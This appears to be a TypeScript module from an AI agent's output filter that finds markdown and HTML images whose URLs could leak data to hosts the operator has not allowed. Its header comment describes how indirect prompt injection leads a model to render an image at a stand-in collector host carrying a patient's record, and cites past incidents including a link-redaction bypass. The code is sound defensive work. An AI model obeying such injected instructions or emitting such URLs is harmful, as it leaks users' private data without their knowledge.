/**
 * Images in model output that would carry data out: the zero-click exfiltration channel of
 * indirect prompt injection. An injected document tells the model to "render" an image whose
 * URL holds what it read (`![](https://collector.example/p.png?d=<the patient's record>)`); the
 * agent's chat client fetches the image as soon as it shows the answer, and the data has left
 * without any tool call for policy to stop (Bing Chat, ChatGPT plugins, Slack AI, and
 * Microsoft 365 Copilot's EchoLeak, CVE-2025-32711, which used reference-style images to get
 * past link redaction). Links need a click and show their address first, so only what is
 * fetched on display is flagged: markdown images, inline and reference-style (a reference
 * definition is flagged whatever uses it), and HTML `<img src>`.
 *
 * An image counts when its URL is http(s) (or scheme-relative) to a host the operator did not
 * allow, and can carry data: a query string, user info, or a path segment long enough to hold
 * an encoded value. A static picture (`https://cdn.example/charts/q3.png`) is left alone.
 *
 * The scan is linear and regex-free: it walks `[` and `<` positions with `indexOf`, and each
 * construct it reads is bounded, so hostile output (thousands of unclosed brackets) cannot
 * make it quadratic.
 */

export const EXFIL_LINK = 'EXFIL_LINK';

/** A longer URL is not read as one (web servers refuse request lines far shorter). */
const MAX_URL = 65_536;
/** Text between a URL and its `)` (a title) longer than this is not one construct. */
const MAX_TITLE = 1_000;
/** Brackets nested deeper than this are not paired (cmark has a limit of its kind too). */
const MAX_NESTING = 32;
/**
 * Characters the URL and attribute reads may look at, per character of text, beyond the
 * text itself: unclosed targets can make reads overlap, and a text that spends it all is
 * hostile. Then the rest of it is reported (fail closed), with this in place of a URL.
 */
const BUDGET_PER_CHAR = 8;
const EXHAUSTED = '\u0000exhausted';

interface Budget { left: number }
/** A path segment this long can hold an encoded value; file names and slugs are shorter. */
const DATA_SEGMENT = 24;

export interface ImageLink {
  /** The whole construct: `![alt](url "title")`, `[ref]: url` or `<img ...>`. */
  readonly start: number;
  readonly end: number;
  readonly url: string;
}

export interface ExfilLink extends ImageLink {
  /** Where the data would go: the URL's host, safe to show (it is the attacker's, not the user's). */
  readonly host: string;
}

/** Every image construct in `text`, in order; unclosed ones (a stream's unfinished tail) are not. */
export function findImageLinks(text: string): ImageLink[] {
  const found: ImageLink[] = [];
  findMarkdownImages(text, found, { left: BUDGET_PER_CHAR * text.length + MAX_URL });
  findHtmlImages(text, found, { left: BUDGET_PER_CHAR * text.length + MAX_URL });
  if (found.length > 1) found.sort((a, b) => a.start - b.start);
  return found;
}

/** The images of `text` that would send data to a host `allowed` does not accept. */
export function findExfilLinks(text: string, allowed: (host: string) => boolean): ExfilLink[] {
  // Most model output has no image at all: two searches and done.
  if (!text.includes('](') && !text.includes(']:') && !hasImgTag(text)) return [];
  const out: ExfilLink[] = [];
  for (const link of findImageLinks(text)) {
    const host = exfilHost(link.url, allowed);
    if (host !== undefined) out.push({ ...link, host });
  }
  return out;
}

/** The URL's host if fetching it would send data to a host not allowed, else undefined. */
export function exfilHost(raw: string, allowed: (host: string) => boolean): string | undefined {
  if (raw === EXHAUSTED) return 'unknown';
  let url: URL;
  try {
    // Parsed as a browser would (WHATWG URL), so the host judged is the host fetched.
    url = new URL(raw.startsWith('//') ? `https:${raw}` : raw);
  } catch {
    return undefined; // relative (same origin as the page) or not a URL: nothing leaves
  }
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return undefined;
  const host = url.hostname;
  if (allowed(host)) return undefined;
  const carries = url.search.length > 1 || url.username !== '' || url.password !== ''
    || url.pathname.split('/').some((segment) => segment.length >= DATA_SEGMENT);
  return carries ? host : undefined;
}

/**
 * Where an image construct that is not finished yet may start at the end of a streamed text
 * (`text.length` when none may): the caller holds that much back until it is whole. There is
 * no bound: the agent's client renders the whole answer, so an image released in pieces would
 * still be fetched; an output that opens an image and never closes it is held to its end.
 */
export function unfinishedImageStart(text: string): number {
  let from = text.length;
  // `![alt](url` with no `)` yet, or a lone `!` that may become `![`.
  const bang = text.lastIndexOf('![');
  if (bang !== -1 && !completeAt(text, bang)) from = bang;
  else if (text.charCodeAt(text.length - 1) === 0x21) from = text.length - 1;
  // A reference definition being written on the last line: `[ref]: url`.
  const lineStart = text.lastIndexOf('\n') + 1;
  if (lineStart < from && /^ {0,3}\[/.test(text.slice(lineStart, lineStart + 4))) from = lineStart;
  // `<img ...` without its `>`, or a tail that may still become `<img`.
  const lt = text.lastIndexOf('<');
  if (lt !== -1 && lt < from && text.indexOf('>', lt) === -1 && 'img'.startsWith(text.slice(lt + 1, lt + 4).toLowerCase())) from = lt;
  return from;
}

/** Whether the `![` at `bang` opens an image that is complete within `text`. */
function completeAt(text: string, bang: number): boolean {
  const found: ImageLink[] = [];
  const rest = text.slice(bang);
  findMarkdownImages(rest, found, { left: BUDGET_PER_CHAR * rest.length + MAX_URL });
  return found[0]?.start === 0 && found[0].url !== EXHAUSTED;
}

/**
 * One forward pass over the brackets, as CommonMark pairs them: a stack of open `[` (nested
 * labels such as `![a [b] c](url)` pair correctly), and at each `]` a look at what follows.
 * After a complete construct the pass resumes at its end: constructs do not nest in URLs.
 */
function findMarkdownImages(text: string, out: ImageLink[], budget: Budget): void {
  const open: number[] = [];
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x5b /* [ */) {
      if (open.length === MAX_NESTING) open.shift();
      open.push(i);
      continue;
    }
    if (c !== 0x5d /* ] */ || open.length === 0) continue;
    const label = open.pop() as number;
    const after = text.charCodeAt(i + 1);
    let found: ImageLink | undefined;
    if (after === 0x28 /* ( */ && label > 0 && text.charCodeAt(label - 1) === 0x21 /* ! */) {
      const target = inlineTarget(text, i + 2, budget);
      if (target !== undefined) found = { start: label - 1, end: target.end, url: target.url };
    } else if (after === 0x3a /* : */ && atLineStart(text, label)) {
      const target = definitionTarget(text, i + 2, budget);
      if (target !== undefined) found = { start: label, end: target.end, url: target.url };
    }
    if (budget.left < 0) {
      // Hostile output (thousands of unclosed targets): fail closed over what is left.
      out.push({ start: label > 0 && text.charCodeAt(label - 1) === 0x21 ? label - 1 : label, end: text.length, url: EXHAUSTED });
      return;
    }
    if (found !== undefined) {
      out.push(found);
      open.length = 0;
      i = found.end - 1;
    }
  }
}

/** `(url)`, `(<url>)` or `(url "title")` from just after the `(`: the URL and the end after `)`. */
function inlineTarget(text: string, from: number, budget: Budget): { url: string; end: number } | undefined {
  let i = skipBlanks(text, from);
  const begin = i;
  let url: string;
  if (text.charCodeAt(i) === 0x3c /* < */) {
    const gt = text.indexOf('>', i + 1);
    if (gt === -1 || gt - i > MAX_URL) {
      budget.left -= Math.min(MAX_URL, text.length - i);
      return undefined;
    }
    url = text.slice(i + 1, gt);
    i = gt + 1;
  } else {
    // Up to white space or the `)` that balances the ones opened in the URL, as CommonMark reads it.
    const start = i;
    let depth = 0;
    const limit = Math.min(text.length, i + MAX_URL);
    for (; i < limit; i++) {
      const c = text.charCodeAt(i);
      if (c === 0x20 || c === 0x0a || c === 0x09 || c === 0x0d) break;
      if (c === 0x28) depth++;
      else if (c === 0x29) {
        if (depth === 0) break;
        depth--;
      }
    }
    if (i === limit && limit < text.length) {
      budget.left -= i - begin;
      return undefined;
    }
    url = text.slice(start, i);
  }
  const paren = text.indexOf(')', i);
  budget.left -= i - begin + Math.min(MAX_TITLE, (paren === -1 ? text.length : paren) - i);
  // A title may follow the URL; anything longer than that before `)` is not this construct.
  if (paren === -1 || paren - i > MAX_TITLE) return undefined;
  return url === '' ? undefined : { url, end: paren + 1 };
}

/** `[ref]: url` from just after the `:`: the URL, which ends the construct (a title may follow). */
function definitionTarget(text: string, from: number, budget: Budget): { url: string; end: number } | undefined {
  const i = skipBlanks(text, from);
  let end = i;
  const limit = Math.min(text.length, i + MAX_URL);
  while (end < limit) {
    const c = text.charCodeAt(end);
    if (c === 0x20 || c === 0x0a || c === 0x09 || c === 0x0d) break;
    end++;
  }
  budget.left -= end - i;
  let url = text.slice(i, end);
  if (url.startsWith('<') && url.endsWith('>')) url = url.slice(1, -1);
  return url === '' ? undefined : { url, end };
}

function findHtmlImages(text: string, out: ImageLink[], budget: Budget): void {
  if (!hasImgTag(text)) return;
  const lower = text.toLowerCase();
  let gt = -1;
  for (let at = lower.indexOf('<img'); at !== -1; at = lower.indexOf('<img', at + 4)) {
    if (gt <= at) {
      gt = lower.indexOf('>', at);
      if (gt === -1) return;
    }
    const after = text.charCodeAt(at + 4);
    if (after !== 0x20 && after !== 0x0a && after !== 0x09 && after !== 0x0d && after !== 0x2f) continue; // <imgx
    // Each tag's attributes are read up to its `>`: tags opened inside one share that `>`.
    budget.left -= gt - at;
    if (budget.left < 0) {
      out.push({ start: at, end: text.length, url: EXHAUSTED });
      return;
    }
    const src = srcAttribute(text, lower, at + 4, gt);
    if (src !== undefined) out.push({ start: at, end: gt + 1, url: src });
  }
}

/** The `src` attribute's value between `from` and the tag's `>`: quoted or bare. */
function srcAttribute(text: string, lower: string, from: number, gt: number): string | undefined {
  for (let at = lower.indexOf('src', from); at !== -1 && at < gt; at = lower.indexOf('src', at + 3)) {
    const before = lower.charCodeAt(at - 1);
    if (before !== 0x20 && before !== 0x0a && before !== 0x09 && before !== 0x2f /* / */) continue;
    let i = skipBlanks(text, at + 3);
    if (text.charCodeAt(i) !== 0x3d /* = */) continue;
    i = skipBlanks(text, i + 1);
    const quote = text.charCodeAt(i);
    if (quote === 0x22 || quote === 0x27) {
      const end = text.indexOf(String.fromCharCode(quote), i + 1);
      return end === -1 || end > gt ? undefined : text.slice(i + 1, end).trim();
    }
    let end = i;
    while (end < gt && text.charCodeAt(end) > 0x20) end++;
    return text.slice(i, end);
  }
  return undefined;
}

function hasImgTag(text: string): boolean {
  return /<img/i.test(text);
}

function skipBlanks(text: string, i: number): number {
  let newlines = 0;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x0a && ++newlines <= 1) continue;
    if (c !== 0x20 && c !== 0x09 && c !== 0x0d) break;
  }
  return i;
}

/** Whether `at` starts a line, after at most three spaces (where CommonMark reads a definition). */
function atLineStart(text: string, at: number): boolean {
  for (let i = at - 1, spaces = 0; i >= 0; i--, spaces++) {
    const c = text.charCodeAt(i);
    if (c === 0x0a) return true;
    if (c !== 0x20 || spaces >= 3) return false;
  }
  return true;
}
